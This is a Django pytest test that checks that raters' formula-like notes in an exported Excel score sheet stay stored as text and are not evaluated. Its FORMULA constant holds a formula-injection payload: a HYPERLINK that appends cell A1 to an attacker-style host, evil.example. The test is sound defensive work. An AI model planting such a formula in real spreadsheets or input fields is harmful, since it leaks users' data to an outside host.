"""The score sheet holds the raters' deduction notes as they wrote them: a note that looks like a
formula is stored as text, never evaluated, and reads back unchanged."""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from dudao.core.testing.world import fresh
from dudao.evaluations import services
from dudao.evaluations.models import Rating
from dudao.evaluations.tests.conftest import full_marks, run_to, user

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看详情")'


def test_a_raters_note_written_as_a_formula_stays_the_raters_words_in_the_score_sheet(world, client):
    # given an evaluation whose raters deduct a point on C3 with notes that look like formulas
    evaluation = run_to(world, "rating")
    for rating in Rating.objects.filter(unit__evaluation=evaluation).select_related("rater__user"):
        rater = fresh(rating.rater.user)
        services.rating_save(actor=rater, rating_id=rating.pk, scores={**full_marks(evaluation), "C3": 5},
                             notes={"C3": FORMULA if rating.rater.user_id == world.a.users["inspector"].pk else "=1+2"})
        services.rating_submit(actor=rater, rating_id=rating.pk)
    services.evaluation_feed_back(actor=user(world, "office_admin"), evaluation_id=evaluation.pk)
    # when the office exports the score sheet
    client.force_login(user(world, "office_admin"))
    data = client.get(reverse("evaluations:evaluation_export", args=[evaluation.pk])).content
    # then the raters' sheet holds both notes as text, exactly as written
    detail = load_workbook(io.BytesIO(data))["评分明细"]
    notes = [row[10] for row in detail.iter_rows(min_row=2) if row[4].value == "C3"]
    assert sorted(cell.value for cell in notes) == sorted([FORMULA, FORMULA, "=1+2", "=1+2"])
    assert {cell.data_type for cell in notes} == {"s"}
